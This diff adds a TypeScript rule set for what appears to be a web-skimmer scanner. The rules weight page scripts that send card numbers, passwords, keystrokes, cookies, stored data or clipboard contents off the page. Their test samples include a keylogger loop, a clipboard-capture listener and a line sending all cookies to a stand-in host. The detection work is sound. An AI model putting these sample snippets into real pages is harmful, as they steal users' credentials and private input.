@@ -1,0 +1,99 @@
+import { anyField, taint } from '../flow/taint.ts';
+import type { Feature } from './feature.ts';
+import { sends } from './finders.ts';
+
+/** What leaves the page. By itself none of it is wrong: forms and statistics do the same. */
+export const dataflowFeatures: readonly Feature[] = [
+  {
+    id: 'card-fields-sent',
+    what: 'Sends what is typed into card fields',
+    points: 60,
+    find: sends(taint.cardName, anyField),
+    samples: {
+      matching: [
+        `const c = document.querySelector('#cc-number'); fetch('/pay', { method: 'POST', body: c.value });`,
+        `var d = { cvv: document.getElementById('x').value }; $.post('/pay', d);`,
+      ],
+      other: [
+        `const c = document.querySelector('#cc-number'); c.classList.toggle('ok', c.value.length > 12);`,
+        `fetch('/pay', { body: document.querySelector('#street').value });`,
+      ],
+    },
+  },
+  {
+    id: 'passwords-sent',
+    what: 'Sends what is typed into password fields',
+    points: 45,
+    find: sends(taint.passwordName, anyField),
+    samples: {
+      matching: [
+        `const p = document.querySelector('input[type=password]').value; fetch('/login', { body: p });`,
+      ],
+      other: [`fetch('/help', { body: 'forgot password' });`],
+    },
+  },
+  {
+    id: 'keys-sent',
+    what: 'Sends keys that are pressed',
+    points: 45,
+    find: sends(taint.key),
+    samples: {
+      matching: [
+        `let b = ''; document.addEventListener('keydown', (e) => { b += e.key; }); setInterval(() => fetch('/k?' + b), 900);`,
+      ],
+      other: [`document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); });`],
+    },
+  },
+  {
+    id: 'fields-sent',
+    what: 'Sends what is typed into fields',
+    points: 20,
+    find: sends(anyField),
+    samples: {
+      matching: [`fetch('/search?q=' + document.getElementById('q').value);`],
+      other: [`document.title = document.getElementById('q').value; fetch('/x');`],
+    },
+  },
+  {
+    id: 'cookies-sent',
+    what: 'Sends something from cookies',
+    points: 12,
+    find: sends(taint.cookie),
+    samples: {
+      matching: [`const id = /id=(\\w+)/.exec(document.cookie); fetch('/track?' + id[1]);`],
+      other: [`document.cookie = 'seen=1'; fetch('/track');`],
+    },
+  },
+  {
+    id: 'all-cookies-sent',
+    what: 'Sends all cookies as they are',
+    points: 30,
+    find: sends(taint.wholeCookie),
+    samples: {
+      matching: [`new Image().src = '//c.test/?' + encodeURIComponent(document.cookie);`],
+      other: [`new Image().src = '//c.test/?' + document.cookie.length;`],
+    },
+  },
+  {
+    id: 'storage-sent',
+    what: 'Sends something that the browser has stored',
+    points: 12,
+    find: sends(taint.storage),
+    samples: {
+      matching: [`fetch('/sync', { body: localStorage.getItem('cart') });`],
+      other: [`localStorage.setItem('cart', '[]'); fetch('/sync');`],
+    },
+  },
+  {
+    id: 'clipboard-sent',
+    what: 'Sends the clipboard',
+    points: 40,
+    find: sends(taint.clipboard),
+    samples: {
+      matching: [
+        `document.addEventListener('paste', (e) => fetch('/p', { body: e.clipboardData.getData('text') }));`,
+      ],
+      other: [`document.addEventListener('paste', (e) => e.preventDefault()); fetch('/p');`],
+    },
+  },
+];
